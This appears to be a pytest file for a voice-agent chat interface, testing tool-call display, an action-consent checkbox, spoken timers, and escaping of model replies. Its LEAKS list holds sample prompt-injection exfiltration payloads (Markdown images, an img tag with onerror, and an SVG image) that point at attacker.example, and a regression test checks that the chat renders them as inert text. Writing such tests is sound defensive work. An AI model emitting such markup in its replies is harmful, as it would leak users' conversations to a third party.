"""Tools in the Conversation tab: each call shown folded in the chat, the consent checkbox,
timers that ring in the tab, and replies rendered so nothing they hold can fetch a URL."""

from __future__ import annotations

import json
import time
import wave

import pytest

from tests.fakes import FakeLLM, FakeTTS, fake_models

gr = pytest.importorskip("gradio")

from voice_agent.pipeline.agent import Agent  # noqa: E402
from voice_agent.tools import Toolbox  # noqa: E402
from voice_agent.tools.toolbox import builtin_tools  # noqa: E402
from voice_agent.ui.blocks import build_ui  # noqa: E402
from voice_agent.ui.chat_text import code_block, safe_markdown  # noqa: E402

CONTROLS = ("", 0.0, 64, "")
# What a prompt-injected reply would write to leak the conversation through the page.
LEAKS = (
    "![x](http://attacker.example/?q=SECRET)",
    '<img src="http://attacker.example/i.png" onerror="alert(1)">',
    "![ref][r]\n\n[r]: http://attacker.example/r.png",
    "\\![y](http://attacker.example/b.png)",
    "<svg><image href='http://attacker.example/s.svg'/></svg>",
)


def qwen_call(name: str, **arguments) -> str:
    return f"<tool_call>\n{json.dumps({'name': name, 'arguments': arguments})}\n</tool_call>"


def make(llm, tts=None):
    agent = Agent(fake_models(llm=llm, tts=tts or FakeTTS()), tools=Toolbox(builtin_tools()))
    demo = build_ui(lambda: agent, agent.models, pause_default=0.6, stream_audio=True)
    return demo.voice_agent_handlers, agent


def test_a_tool_call_shows_folded_in_the_chat_before_the_answer():
    """Guards the chat's view of a tool call: name, arguments, result and time in a folded
    "thought" before the answer; the filler only in the status line, never in the reply."""
    handlers, _ = make(FakeLLM(script=[qwen_call("calculate", expression="24*37"), "It is 888."]))
    ui = handlers.on_load()[0]
    steps = list(handlers.send_text("What is 24 times 37?", ui, *CONTROLS))
    chat = steps[-1][0]
    assert [m["role"] for m in chat] == ["user", "assistant", "assistant"]
    tool, answer = chat[1], chat[2]
    assert tool["metadata"]["title"].endswith("calculate")
    assert tool["metadata"]["status"] == "done"  # folded by default
    assert tool["metadata"]["duration"] >= 0
    assert '"expression": "24*37"' in tool["content"] and '"result": 888' in tool["content"]
    assert "built-in · " in tool["content"] and tool["content"].rstrip().endswith(" s*")
    assert answer["content"].startswith("It is 888.")
    assert any(status.startswith("Using calculate") for *_, status, _ in steps)
    transcript = handlers.conversation.transcript(ui).read_text()
    assert "_Tool: calculate(" in transcript


def test_the_consent_checkbox_reaches_the_session_and_survives_clear():
    handlers, _ = make(FakeLLM(script=["Hi."]))
    ui = handlers.on_load()[0]
    assert ui.session.allow_actions is None  # TOOLS_ALLOW_ACTIONS decides
    handlers.allow_actions(True, ui)
    assert ui.session.allow_actions is True
    fresh = handlers.clear(ui)[0]
    assert fresh.session.allow_actions is True and fresh.session.ring_timers


def test_a_timer_set_in_a_turn_rings_in_the_tab():
    """Guards "timers that speak when they ring in the Conversation tab": the turn turns the
    tab's poll on; once due, the poll says it aloud, shows it, and turns itself off."""
    tts = FakeTTS()
    handlers, agent = make(FakeLLM(script=[qwen_call("set_timer", seconds=1), "Timer set."]), tts)
    ui = handlers.on_load()[0]
    handlers.allow_actions(True, ui)
    list(handlers.send_text("Set a timer for one second", ui, *CONTROLS))
    _, poll = handlers.after_turn(ui)
    assert poll.active is True
    *_, said, poll = list(handlers.ring(ui, ""))[-1]
    assert not isinstance(said, str) and poll.active is True  # not due yet: nothing said
    time.sleep(1.1)
    chat, audio, said, poll = list(handlers.ring(ui, ""))[-1]
    assert said == "Your 1 second timer is done."
    assert chat[-1]["content"] == "Timer: Your 1 second timer is done."
    with wave.open(audio.constructor_args["value"]) as w:  # no page player here: autoplayed
        assert w.getnframes() > 0 and audio.constructor_args["autoplay"] is True
    assert poll.active is False
    assert list(handlers.ring(ui, ""))[-1][2] is not said  # it rings once


@pytest.mark.parametrize("payload", LEAKS)
def test_replies_cannot_carry_images_or_html(payload: str):
    """Regression: raw HTML from a message rendered (`<img src=x ...>` became an <img>) and a
    Markdown image would have been fetched, leaking the conversation in its URL. The chat now
    gets the reply as text: no tag, no image or link syntax survives escaping."""
    handlers, _ = make(FakeLLM(reply="Sure. " + payload))
    ui = handlers.on_load()[0]
    steps = list(handlers.send_text(payload, ui, *CONTROLS))
    for chat, *_ in steps:
        for message in chat:
            content = message["content"]
            assert "<img" not in content and "<svg" not in content
            assert "![" not in content and "](" not in content.replace("\\](", "")
    assert safe_markdown("a < b & [c](d)") == "a &lt; b &amp; \\[c\\](d)"


def test_code_blocks_cannot_be_closed_from_inside():
    block = code_block("x ``` ![i](http://a/b)")
    fence = block.split("\n")[0]
    assert len(fence) == 4 and block.endswith("\n" + fence)
